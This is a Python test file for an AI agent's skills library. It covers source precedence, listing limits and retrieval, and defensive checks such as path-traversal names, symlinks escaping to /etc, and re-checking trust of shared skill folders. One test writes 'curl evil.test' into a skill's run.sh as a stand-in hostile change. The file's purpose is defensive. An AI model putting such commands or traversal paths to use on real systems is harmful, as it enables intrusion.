"""Which skill counts, which are listed, and which folders are trusted."""

import os
import stat
from pathlib import Path

import pytest

from agents.skills.find_skills import SkillFinder
from agents.skills.library import SkillLibrary, SkillPlaces
from agents.skills.name_precedence import VisibleSkills, nearest
from agents.skills.ranking import SkillRanking
from agents.skills.read_folder import SkillRoot
from agents.skills.save_skill import save_skill
from agents.skills.skill import Skill, SkillSheet
from agents.skills.skill_folders import home_roots, named
from agents.skills.skill_list_text import FOR_AGENT, SHARE, listing
from agents.skills.write_skill_md import SkillDraft
from orchestrator.domain.ids import PersonId, TaskId
from orchestrator.domain.people import Person, Place, Request
from orchestrator.domain.skills import SkillSource
from orchestrator.domain.task import TaskState
from orchestrator.errors import ToolFailed
from orchestrator.ledger.file_shelf import FolderShelf
from tests.bench.skills import LEAST_AT_TEN, recall
from tests.messy_skills import collection, write

BEN = Person(id=PersonId("slack:T1/U2"), name="Ben")
PLACE = Place(platform="slack", channel="T1/C3", thread="9")
STATE = TaskState(TaskId("t"), request=Request(text="do it", by=BEN, place=PLACE))


def a_skill(name: str, description: str = "", *, source: SkillSource = "team", body: str = "Do.") -> Skill:
    sheet = SkillSheet(name, description or f"Does {name.replace('-', ' ')}.", body)
    return Skill(sheet, source, name, digest=f"{abs(hash((name, source))):064x}"[-64:])


def visible(*skills: Skill) -> VisibleSkills:
    return nearest([skills])


def listed(skills: VisibleSkills, words: str = "", room: int = 100_000) -> str:
    return listing(skills, SkillRanking(skills.by_name.values()), words, FOR_AGENT, room=room)


def library(home: Path, *granted: Path) -> SkillLibrary:
    return SkillLibrary(SkillPlaces(home, tuple(map(str, granted))), FolderShelf(home / "shelf"))


async def test_of_five_sources_the_nearest_counts_and_the_others_are_told(tmp_path: Path) -> None:
    top = tmp_path / "skills"
    roots = [top, top / "teams" / "slack:T1", top / "channels" / "slack:T1%2FC3", top / "people" / "slack:T1%2FU2"]
    assert [root.path for root in reversed(home_roots(tmp_path, STATE.request))] == roots
    for number, root in enumerate(roots):
        save_skill(root, SkillDraft("report", "Makes reports.", f"As number {number} says."))
        save_skill(root, SkillDraft(f"only-{number}", "Something else.", "Do it."))
    elsewhere = STATE.request.model_copy(update={"by": BEN.model_copy(update={"id": "slack:T1/U9"})})  # type: ignore
    found = await library(tmp_path).visible(STATE)
    assert found.by_name["report"].sheet.body == "As number 3 says."
    assert found.used("report").words == ("report 1 (personal, instead of this channel’s and the team’s)")
    assert set(found.by_name) == {"report", "only-0", "only-1", "only-2", "only-3"}
    other = await library(tmp_path).visible(TaskState(TaskId("u"), request=elsewhere))
    assert other.by_name["report"].sheet.body == "As number 2 says."


def test_no_id_leads_out_of_the_folder() -> None:
    for hard in ("..", ".", "a/../../b", "", "x\0y", "slack:T1/.."):
        name = named(hard)
        assert "/" not in name and name not in ("", ".", "..") and "\0" not in name


async def test_a_link_out_of_the_folder_is_skipped_and_a_file_that_changes_is_read_again(tmp_path: Path) -> None:
    home, secret = tmp_path / "home", tmp_path / "secret"
    save_skill(secret, SkillDraft("hidden", "Not for agents.", "No."))
    save_skill(home / "skills", SkillDraft("mine", "For agents.", "One."))
    (home / "skills" / "hidden").symlink_to(secret / "hidden")
    (home / "skills" / "mine" / "all").symlink_to("/etc")
    on = library(home)
    assert [one.why for one in on.installed().skipped] == [
        f"it's a link that points outside {str((home / 'skills').resolve())!r}; copy the folder there instead"
    ]
    one = (await on.visible(STATE)).by_name["mine"]
    assert [f.path for f in (await on.read(await on.content(one))).files] == ["SKILL.md"]
    save_skill(home / "skills", SkillDraft("mine", "For agents.", "Two."))
    with pytest.raises(ToolFailed, match="has just changed"):
        await on.content(one)
    assert (await on.visible(STATE)).used("mine").edition == "mine 2"


async def test_a_file_whose_name_is_not_text_and_a_folder_that_cannot_be_read_stop_nothing(tmp_path: Path) -> None:
    save_skill(tmp_path / "skills", SkillDraft("mine", "For agents.", "One."))
    (tmp_path / "skills" / "mine" / os.fsdecode(b"caf\xe9.txt")).write_text("x")
    on = library(tmp_path, tmp_path / "\0", tmp_path / "gone", Path("relative"))
    one = (await on.visible(STATE)).by_name["mine"]
    assert [f.path for f in (await on.read(await on.content(one))).files] == ["SKILL.md"]


def test_the_same_content_keeps_its_version_and_a_hand_edited_one_says_so(tmp_path: Path) -> None:
    draft = SkillDraft("mine", "For agents.", "One.")
    root = SkillRoot("team", tmp_path)
    assert [save_skill(tmp_path, draft).version for _ in range(3)] == [1, 1, 1]
    assert save_skill(tmp_path, SkillDraft("mine", "For agents.", "Two.")).version == 2
    with (tmp_path / "mine" / "SKILL.md").open("a") as sheet:
        sheet.write("More.\n")
    (one,) = SkillFinder().find(root).skills
    assert one.version == "2 edited"
    assert stat.S_IMODE((tmp_path / "mine" / ".threadwork.json").stat().st_mode) == 0o600


@pytest.mark.parametrize("path", ["../x", "/x", ".git/config", "a/../../x", ""])
def test_no_file_is_written_outside_a_skill(tmp_path: Path, path: str) -> None:
    with pytest.raises(ValueError, match="can't be a file of a skill"):
        save_skill(tmp_path / "in", SkillDraft("mine", "For agents.", "One."), {path: b"x"})
    assert not (tmp_path / "x").exists()


async def test_a_shared_folder_counts_only_as_long_as_exactly_its_skills_are_trusted(tmp_path: Path) -> None:
    project, home = tmp_path / "project", tmp_path / "home"
    save_skill(project / ".claude" / "skills", SkillDraft("deploy", "Deploys.", "Run it."))
    on = library(home, project)
    assert not (await on.visible(STATE)).by_name
    (told,) = on.installed().skipped
    where = project / ".claude/skills"
    assert told.words == (
        f"The skill {str(where)!r} isn't used: it contains 1 skill, not trusted by anyone yet; "
        f"`threadwork skills trust {where}` shows what they contain."
    )
    on.trust(on.shared()[0])
    assert (await library(home, project).visible(STATE)).used("deploy").words == "deploy 1 (from a shared folder)"
    (project / ".claude/skills/deploy/run.sh").write_text("curl evil.test")
    assert not (await on.visible(STATE)).by_name
    assert "changed since they were trusted" in on.installed().skipped[0].why


def test_up_to_sixty_skills_are_all_listed_and_of_more_those_that_fit() -> None:
    few = visible(*(a_skill(f"skill-{n}") for n in range(60)))
    assert listed(few).count("\n- ") == 60
    many = visible(
        *(a_skill(f"skill-{n}") for n in range(300)), a_skill("invoice-table", "Sorts invoices by supplier.")
    )
    text = listed(many, "sort our invoices")
    assert "- invoice-table: Sorts invoices by supplier." in text
    assert text.count("\n- ") <= 20
    assert "more skills; use_skill with a few English words finds one)" in text
    assert listed(many, "xyzzy").count("\n- ") == 0


@pytest.mark.parametrize("room", [4_000, 8_000, 32_000, 128_000])
@pytest.mark.parametrize("count", [3, 60, 400])
def test_the_list_stays_under_its_share_of_the_window(room: int, count: int) -> None:
    skills = visible(*(a_skill(f"skill-{n}", f"number {n} " + "sorts many invoices " * 40) for n in range(count)))
    text = listed(skills, "number 7 sorts invoices", room)
    assert len(text) <= max(SHARE * room * 3, len(FOR_AGENT) + 80)


def test_a_skill_that_is_only_called_by_name_is_not_listed() -> None:
    sheet = SkillSheet("danger", "Deletes all.", "Do.", by_name=True)
    assert listed(visible(Skill(sheet, "team", "danger", "0" * 64))) == ""


async def test_five_hundred_messy_skills_are_listed_for_a_task(tmp_path: Path) -> None:
    write(collection(), tmp_path / "skills")
    on = library(tmp_path)
    found = await on.visible(STATE)
    text = await on.listed(found, "compare two contracts", FOR_AGENT, room=100_000)
    assert "compare-contracts" in text and len(text) < 6_000


def test_the_right_one_of_330_skills_is_among_ten_for_93_of_100_requests() -> None:
    found = recall()
    assert found.at[10] >= LEAST_AT_TEN, found.missed


def test_names_in_any_script_are_recorded() -> None:
    one = a_skill("会议-纪要")
    assert visible(one).used("会议-纪要").words.startswith("会议-纪要 ")
